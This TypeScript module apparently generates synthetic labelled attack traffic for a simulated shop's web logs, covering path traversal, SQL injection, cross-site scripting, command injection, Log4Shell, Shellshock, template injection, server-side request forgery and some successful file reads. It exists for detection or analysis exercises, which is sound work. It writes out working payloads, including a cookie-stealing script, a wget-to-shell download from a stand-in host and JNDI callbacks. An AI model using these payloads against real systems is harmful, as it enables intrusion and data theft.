import { PRODUCTS } from '../catalog.ts'
import type { AttackKind, Client } from '../event.ts'
import { MINUTE, SECOND } from '../recorder.ts'
import { ROUTES, type RequestOptions, type Route } from '../services.ts'
import type { Attack } from './context.ts'

const text = encodeURIComponent

/** What the shop says to a search that finds nothing: the same page each time. */
const NOTHING_FOUND = 11_204

const TRAVERSALS = [
  '/assets/../../../../etc/passwd',
  '/assets/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/images/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
  '/images/..%252f..%252f..%252fetc%252fhosts',
  '/assets/....//....//....//etc/passwd',
  '/download?file=../../../../var/www/marlow/config.php',
  '/download?file=..%5c..%5c..%5cwindows%5cwin.ini',
  '/assets/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/wp-content/plugins/viewer/get.php?path=/proc/self/environ',
  '/static/..;/..;/WEB-INF/web.xml',
]

export const pathTraversal: Attack = ({ random, rented, moment, size, probe }) => {
  for (let i = 0; i < size(3, 2); i++) {
    const client = rented()
    let at = moment(random.float())
    for (const target of random.shuffle(TRAVERSALS).slice(0, random.int(5, 10))) {
      at += random.exponential(3 * SECOND)
      const [path = '', query] = target.split('?')
      probe(at, client, path.startsWith('/wp-') ? 'blog' : 'shop', path, ['path_traversal'], {
        ...(query && { query }),
        status: random.weighted([
          [404, 5],
          [400, 4],
          [403, 1],
        ]),
      })
    }
  }
}

const sqlPayloads = (n: number): string[] => [
  `tent' OR ${n}=${n}-- -`,
  `tent') AND (SELECT ${n} FROM (SELECT(SLEEP(5)))abc)-- -`,
  `-${n}' UNION ALL SELECT NULL,CONCAT(0x71,user(),0x71),NULL-- -`,
  `${n} AND EXTRACTVALUE(${n},CONCAT(0x5c,(SELECT version())))`,
  `${n};SELECT PG_SLEEP(5)--`,
  `tent' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),${n % 20},1))>${60 + (n % 50)}-- -`,
  `${n}/**/UnIoN/**/SeLeCt/**/1,table_name,3/**/FrOm/**/information_schema.tables`,
  `'; DROP TABLE baskets; --`,
  `${n} WAITFOR DELAY '0:0:5'--`,
]

/** One tool that tries hundreds of spellings, and two people who try a few. */
export const sqlInjection: Attack = ({ random, rented, moment, size, send }) => {
  const clients: (readonly [Client, number, AttackKind[]])[] = [
    [
      { ip: rented().ip, userAgent: 'sqlmap/1.9.10#stable (https://sqlmap.org)' },
      size(190, 30),
      ['sql_injection', 'scanner_user_agent', 'error_ratio'],
    ],
    [rented(), random.int(6, 12), ['sql_injection']],
    [rented(), random.int(3, 6), ['sql_injection']],
  ]
  for (const [client, count, kinds] of clients) {
    let at = moment(0.15 + 0.7 * random.float())
    for (let i = 0; i < count; i++) {
      at += count > 20 ? random.exponential(700) : random.exponential(25 * SECOND)
      const payload = random.pick(sqlPayloads(random.int(1_000, 9_999)))
      const onSearch = random.chance(0.4)
      const status = random.weighted([
        [500, 4],
        [onSearch ? 200 : 404, 4],
        [400, 2],
      ])
      send(at, client, onSearch ? ROUTES.search : ROUTES.apiProduct, kinds, {
        path: onSearch ? '/search' : `/v1/products/${random.chance(0.5) ? random.pick(PRODUCTS).id : text(payload)}`,
        query: `${onSearch ? 'q' : 'fields'}=${text(payload)}`,
        status,
        ...(status === 200 && { bytes: NOTHING_FOUND }),
      })
    }
  }
}

const SCRIPTS = [
  '"><script>document.location="//c.example/"+document.cookie</script>',
  '<img src=x onerror=alert(document.domain)>',
  '<svg/onload=fetch(`//c.example`)>',
  'javascript:confirm(1)',
  '"autofocus onfocus=alert(1) x="',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  "'-prompt(1)-'",
  '<details open ontoggle=alert(1)>',
]

export const crossSiteScripting: Attack = ({ random, rented, hijacked, moment, size, send }) => {
  for (let i = 0; i < size(4, 2); i++) {
    const client = random.chance(0.5) ? rented() : hijacked()
    let at = moment(random.float())
    for (const script of random.shuffle(SCRIPTS).slice(0, random.int(3, 8))) {
      at += random.exponential(14 * SECOND)
      send(at, client, ROUTES.search, ['cross_site_scripting'], {
        path: '/search',
        query: `q=${text(script)}`,
        status: 200,
        bytes: NOTHING_FOUND,
      })
    }
  }
}

interface Command extends RequestOptions {
  route: Route
  userAgent?: string
}

/** Everything that makes a server run or fetch something: shell, JNDI, Shellshock, templates, server-side requests. */
const COMMANDS: readonly Command[] = [
  { route: ROUTES.search, path: '/search', query: `q=${text('tent;cat /etc/passwd')}` },
  { route: ROUTES.search, path: '/search', query: `q=${text('$(wget -qO- http://198.51.100.7/s.sh|sh)')}` },
  { route: ROUTES.search, path: '/search', query: `q=${text('tent|id')}` },
  { route: ROUTES.search, path: '/search', query: `q=${text('`curl 198.51.100.7/a`')}` },
  { route: ROUTES.home, path: '/', userAgent: '${jndi:ldap://198.51.100.7:1389/Basic/Command/id}' },
  { route: ROUTES.home, path: '/', referer: '${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}' },
  { route: ROUTES.apiSearch, path: '/v1/search', query: `q=${text('${jndi:dns://c.example/a}')}` },
  { route: ROUTES.home, path: '/', userAgent: '() { :;}; /bin/bash -c "echo vulnerable"' },
  { route: ROUTES.category, path: '/c/tents', query: `name=${text('{{7*7}}')}` },
  { route: ROUTES.category, path: '/c/tents', query: `name=${text("{{''.__class__.__mro__[1].__subclasses__()}}")}` },
  {
    route: ROUTES.category,
    path: '/c/tents',
    query: `name=${text('#{T(java.lang.Runtime).getRuntime().exec("id")}')}`,
  },
  {
    route: ROUTES.apiProduct,
    path: '/v1/products/10037',
    query: `image=${text('http://169.254.169.254/latest/meta-data/iam/')}`,
  },
  { route: ROUTES.apiProduct, path: '/v1/products/10037', query: `image=${text('file:///etc/hostname')}` },
  { route: ROUTES.apiProduct, path: '/v1/products/10037', query: 'image=gopher%3A%2F%2F127.0.0.1%3A6379%2F_INFO' },
]

export const commandInjection: Attack = ({ random, rented, hijacked, moment, size, send }) => {
  for (let i = 0; i < size(5, 2); i++) {
    const client = random.chance(0.5) ? rented() : hijacked()
    let at = moment(random.float())
    for (const { route, userAgent, ...options } of random.shuffle(COMMANDS).slice(0, random.int(4, 12))) {
      at += random.exponential(6 * SECOND)
      const status = random.weighted([
        [400, 4],
        [403, 2],
        [500, 2],
        [404, 2],
      ])
      send(at, userAgent ? { ...client, userAgent } : client, route, ['command_injection'], { status, ...options })
    }
  }
}

/** After some misses one spelling gets through, and the file comes back: 200, and not the size of any page. */
export const succeeded: Attack = ({ random, rented, moment, probe, send }) => {
  const client = rented()
  let at = moment(0.71)
  for (const path of [
    '/download/..%2fetc%2fpasswd',
    '/download/..%2f..%2fetc%2fpasswd',
    '/download/..%2f..%2f..%2fetc%2fpasswd',
  ]) {
    at += random.exponential(8 * SECOND)
    probe(at, client, 'blog', path, ['path_traversal', 'attack_succeeded'])
  }
  for (const [file, bytes] of [
    ['etc/passwd', 2_911],
    ['var/www/blog/wp-config.php', 3_480],
    ['home/deploy/.ssh/authorized_keys', 1_193],
  ] as const) {
    at += random.exponential(20 * SECOND)
    probe(
      at,
      client,
      'blog',
      '/wp-content/plugins/gallery-export/download.php',
      ['path_traversal', 'attack_succeeded'],
      {
        query: `file=../../../../../${file}`,
        status: 200,
        bytes,
      },
    )
  }
  const other = rented()
  at = moment(0.72) + 40 * MINUTE
  for (const command of ['id', 'uname -a', 'cat /etc/hosts']) {
    at += random.exponential(30 * SECOND)
    send(at, other, { ...ROUTES.apiSearch, route: '/v1/export' }, ['command_injection', 'attack_succeeded'], {
      path: '/v1/export',
      query: `format=${text(`csv;${command}`)}`,
      status: 200,
      bytes: random.int(60, 420),
    })
  }
}
